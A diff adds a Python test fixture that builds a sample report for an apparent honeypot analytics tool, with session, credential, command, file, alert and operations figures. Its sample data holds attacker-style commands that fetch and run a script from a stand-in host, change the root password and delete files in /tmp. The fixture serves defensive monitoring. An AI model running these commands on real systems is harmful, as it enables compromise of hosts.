@@ -1,0 +1,321 @@
+"""A whole report document, written down by hand: every key of every section, with numbers that can be told apart."""
+
+from copy import deepcopy
+from datetime import date, timedelta
+from typing import Any
+
+from cowrie_assets.reports.document import ReportDocument
+from cowrie_assets.reports.periods import ReportType, parse_period
+
+PERIODS: dict[ReportType, str] = {"daily": "2026-08-31", "weekly": "2026-W36", "monthly": "2026-08"}
+HASH = "a65421106612df00624d7dc82975f3626f2b2aa10c08fc12b2eaa74d96dbfae6"
+
+
+def sample_document(report_type: ReportType = "daily", **head: Any) -> ReportDocument:
+    """A document of the day, week or month around 2026-08-31; `head` replaces keys of the top level."""
+    period = parse_period(report_type, PERIODS[report_type])
+    document: dict[str, Any] = {
+        "schema_version": 1,
+        "report_type": report_type,
+        "period": period.label,
+        "start": f"{period.start}T00:00:00Z",
+        "end": f"{period.end}T00:00:00Z",
+        "sensor": "aggregate",
+        "generated_at": "2026-10-01T00:05:00.000000Z",
+        "complete": True,
+        **deepcopy(_SECTIONS),
+    }
+    document["volume"] = _volume(report_type, period.start, period.end)
+    document["changes"] = _changes(report_type, period.previous().label)
+    if report_type != "daily":
+        _rank(document)
+    return {**document, **head}  # type: ignore[typeddict-item, return-value]
+
+
+def top(*items: tuple[str, int]) -> list[dict[str, Any]]:
+    """A top list of `(value, count)`."""
+    return [{"value": value, "count": count} for value, count in items]
+
+
+def _volume(report_type: ReportType, start: date, end: date) -> dict[str, Any]:
+    hours = [f"{start}T{hour:02}:00:00Z" for hour in range(24)]
+    days = [f"{start + timedelta(days=day)}T00:00:00Z" for day in range((end - start).days)]
+    items = [
+        {
+            "start": moment,
+            "sessions": 40 + 13 * number % 37,
+            "ssh": 30 + 11 * number % 31,
+            "telnet": 3 + number % 5,
+            "login_attempts": 101 + number,
+            "commands": 301 + number,
+            "file_downloads": 501 + number,
+            "file_uploads": number % 3,
+        }
+        for number, moment in enumerate(hours if report_type == "daily" else days)
+    ]
+    return {"by": "hour" if report_type == "daily" else "day", "items": items}
+
+
+def _changes(report_type: ReportType, previous: str) -> dict[str, Any]:
+    names = (
+        *("sessions", "unique_ips", "login_attempts", "login_successes", "commands"),
+        *("high_risk_commands", "file_downloads", "file_uploads", "unique_hashes", "unique_passwords"),
+    )
+    figures = {
+        name: {
+            "value": 7000 + 7 * number,
+            "previous": 6000 + 3 * number,
+            "change": 1000 + 4 * number,
+            "change_percent": 16.7 + number,
+            "median": 6500.5 + number,
+            "change_to_median": 499.5 + 6 * number,
+            "change_to_median_percent": 7.7 + number,
+        }
+        for number, name in enumerate(names)
+    }
+    figures["commands"] |= {"value": 5871, "previous": 9120, "change": -3249, "change_percent": -35.6}
+    figures["file_uploads"] |= {"previous": 0, "change": 7049, "change_percent": None}
+    before = parse_period(report_type, previous)
+    labels = [before.label]
+    for _ in range(3):
+        before = before.previous()
+        labels.insert(0, before.label)
+    return {"previous": {"period": previous, "complete": True}, "median_of": labels, "figures": figures}
+
+
+def _rank(document: dict[str, Any]) -> None:
+    """Places in the period before: the first rose, the second is new, the third fell, the others stayed."""
+    for section in ("credentials", "commands", "files", "sources", "clients"):
+        for items in document[section].values():
+            if isinstance(items, list):
+                for place, item in enumerate(items, 1):
+                    item["previous_rank"] = {1: 3, 2: None, 3: 1}.get(place, place)
+
+
+_SECTIONS: dict[str, Any] = {
+    "sessions": {
+        "total": 1234,
+        "unique_ips": 217,
+        "closed": 1201,
+        "with_commands": 389,
+        "with_login_success": 402,
+        "protocols": {"ssh": 1100, "telnet": 133},
+        "avg_commands": 4.76,
+        "median_commands": 2,
+        "p95_commands": 19,
+        "max_commands": 143,
+        "min_commands": 0,
+        "avg_duration_seconds": 38.41,
+        "login_attempts": 5021,
+        "login_successes": 411,
+        "login_failures": 4610,
+        "file_downloads": 61,
+        "file_uploads": 12,
+        "vt_flagged": 8,
+        "dshield_flagged": 77,
+        "commands_histogram": [
+            {"from": low, "to": high, "sessions": sessions}
+            for low, high, sessions in (
+                *((0, 0, 845), (1, 1, 120), (2, 2, 64), (3, 5, 91), (6, 10, 50)),
+                *((11, 20, 41), (21, 50, 18), (51, 100, 4), (101, None, 1)),
+            )
+        ],
+        "durations": {
+            "min_seconds": 0.02,
+            "median_seconds": 6.31,
+            "p95_seconds": 181.07,
+            "max_seconds": 2410.55,
+            "mean_seconds": 38.41,
+            "histogram": [
+                {"from_seconds": low, "to_seconds": high, "sessions": sessions}
+                for low, high, sessions in (
+                    *((0, 1, 310), (1, 5, 222), (5, 10, 341), (10, 30, 207)),
+                    *((30, 60, 72), (60, 300, 53), (300, 1800, 26), (1800, None, 3)),
+                )
+            ],
+        },
+        "tunnel_requests": 93,
+        "with_tunnel_requests": 31,
+        "by_protocol": [
+            {
+                "protocol": protocol,
+                "sessions": sessions,
+                "with_login_success": 201 + sessions,
+                "with_commands": 202 + sessions,
+                "login_attempts": 203 + sessions,
+                "login_successes": 204 + sessions,
+                "commands": 205 + sessions,
+                "file_downloads": 206 + sessions,
+                "file_uploads": 207 + sessions,
+                "avg_duration_seconds": 8.25 + sessions,
+            }
+            for protocol, sessions in (("ssh", 1100), ("telnet", 133))
+        ],
+    },
+    "volume": {},
+    "credentials": {
+        "unique_usernames": 58,
+        "unique_passwords": 812,
+        "top_usernames": top(("root", 3120), ("admin", 611), ("ubuntu", 202), ("", 3)),
+        "top_passwords": top(("123456", 411), ("hunter2", 305), ("hunter3", 98), ("パスワード", 4)),
+        "top_combinations": top(("root:123456", 390), ("root:hunter2", 301), ("admin:admin", 88), ("a:b:c", 2)),
+    },
+    "commands": {
+        "total": 5871,
+        "unique": 318,
+        "top_commands": top(
+            ("uname -a", 301),
+            ("cd /tmp; wget http://192.0.2.7/bins/x86.sh; sh x86.sh", 92),
+            ('echo -e "hunter2\\nhunter2" | passwd', 61),
+            ("cat /proc/cpuinfo | grep name | wc -l", 44),
+        ),
+        "high_risk_total": 161,
+        "top_last_commands": top(("exit", 180), ("rm -rf /tmp/*", 52), ("uname -a", 18)),
+    },
+    "files": {
+        "downloads": 61,
+        "downloads_failed": 9,
+        "uploads": 12,
+        "unique_hashes": 14,
+        "top_hashes": top((HASH, 31), (HASH[::-1], 12), (HASH[8:] + HASH[:8], 2)),
+        "top_urls": top(("http://192.0.2.7/bins/x86.sh", 22), ("ftp://files.example/x", 3)),
+        "vt_malicious": 5,
+    },
+    "sources": {
+        "top_ips": top(("192.0.2.1", 161), ("198.51.100.23", 71), ("2001:db8::17", 4)),
+        "unique_networks": 103,
+        "top_networks": top(("192.0.2.0/24", 188), ("2001:db8::/48", 4)),
+    },
+    "clients": {
+        "top_hassh": top(("ec7378c1a92f5a8dde7e8b7a1ddf33d1", 511), ("92674389fa1e47a27ddd8d9b63ecd42b", 107)),
+        "top_versions": top(("SSH-2.0-Go", 640), ("SSH-2.0-libssh_0.9.6", 107)),
+    },
+    "new": {
+        "look_back_days": 90,
+        "hashes": {"total": 3, "items": top((HASH, 31), (HASH[::-1], 12))},
+        "urls": {"total": 2, "items": top(("http://192.0.2.7/bins/x86.sh", 22))},
+        "commands": {"total": 25, "items": top(("cd <path>; wget <url>; sh <name>", 92))},
+        "passwords": {"total": 104, "items": top(("hunter3", 98), ("t0psecret!", 6))},
+        "hassh": {"total": 0, "items": []},
+        "networks": {"total": 11, "items": top(("198.51.100.0/24", 73))},
+    },
+    "changes": {},
+    "interesting": [
+        {
+            "sensor": "hp-fra-01",
+            "session_id": "a0b1c2d3e4f5",
+            "src_ip": "198.51.100.23",
+            "protocol": "ssh",
+            "first_event_at": "2026-08-31T04:17:09.000000Z",
+            "duration_seconds": 83.11,
+            "username": "root",
+            "password": "hunter2",
+            "client_version": "SSH-2.0-Go",
+            "commands": 17,
+            "login_successes": 1,
+            "file_downloads": 2,
+            "file_uploads": 0,
+            "tunnel_requests": 0,
+            "risk_score": 95,
+            "score": 88,
+            "alike": 41,
+            "reasons": ["downloads a file never seen before", "removes traces of itself"],
+            "sample_commands": ["uname -a", "wget http://192.0.2.7/bins/x86.sh", "echo root:hunter2|chpasswd"],
+            "shasums": [HASH],
+        },
+        {
+            "sensor": "hp-nyc-02",
+            "session_id": "00ff00ff00ff",
+            "src_ip": None,
+            "protocol": None,
+            "first_event_at": "2026-08-31T23:59:58.500000Z",
+            "duration_seconds": 1.5,
+            "username": None,
+            "password": None,
+            "client_version": None,
+            "commands": 0,
+            "login_successes": 0,
+            "file_downloads": 0,
+            "file_uploads": 1,
+            "tunnel_requests": 7,
+            "risk_score": 12,
+            "score": 35,
+            "alike": 1,
+            "reasons": ["asks for 7 tunnels"],
+            "sample_commands": [],
+            "shasums": [],
+        },
+    ],
+    "abnormal": {
+        "rare_command_counts": [{"commands": 57, "sessions": 1}, {"commands": 143, "sessions": 2}],
+        "uncommon_command_sessions": 3,
+        "recent_vt_submission_sessions": 1,
+        "sessions": [
+            {
+                "sensor": "hp-fra-01",
+                "session_id": "b1b1b1b1b1b1",
+                "src_ip": "192.0.2.1",
+                "first_event_at": "2026-08-31T10:00:00.000000Z",
+                "commands": 143,
+                "reasons": ["143 commands, as 2 sessions have"],
+            }
+        ],
+    },
+    "alerts": [
+        {
+            "kind": "new_malware",
+            "severity": "high",
+            "message": "3 malicious files were not seen before.",
+            "figures": {"hashes": [HASH, HASH[::-1]], "files": 3},
+        },
+        {
+            "kind": "ip_spike",
+            "severity": "medium",
+            "message": "217 source addresses, 1.9 times the average of the 7 days before.",
+            "figures": {"unique_ips": 217, "average": 114.3},
+        },
+        {
+            "kind": "dead_letters",
+            "severity": "low",
+            "message": "1.4 % of the lines are dead letters.",
+            "figures": {"dead_letters": 219, "lines": 15640, "reason": "invalid_json"},
+        },
+    ],
+    "enrichments": {
+        "files": {
+            "unique_hashes": 14,
+            "judged": 11,
+            "coverage_percent": 78.6,
+            "malicious": 5,
+            "pending": 2,
+            "failed": 1,
+            "classifications": top(("trojan.mirai/gafgyt", 4), ("miner.xmrig", 1)),
+        },
+        "addresses": {"unique_ips": 217, "judged": 199, "coverage_percent": 91.7, "dshield_flagged": 35},
+    },
+    "operations": {
+        "version": "0.1.0",
+        "logs": 4,
+        "lines": 15640,
+        "events": 15300,
+        "duplicates": 119,
+        "blank": 2,
+        "dead_letters": {
+            "total": 219,
+            "percent": 1.4,
+            "by_reason": top(("invalid_json", 210), ("too_long", 9)),
+        },
+        "gaps": [
+            {
+                "sensor": "hp-nyc-02",
+                "start": "2026-08-31T02:00:00Z",
+                "end": "2026-08-31T06:00:00Z",
+                "hours": 4,
+            }
+        ],
+        "gap_hours": 4,
+        "missing_days": ["2026-08-30"],
+        "checks": {"passed": 17, "failed": ["evidence"], "checked_at": "2026-09-01T00:04:00.000000Z"},
+    },
+    "legacy": {},
+}
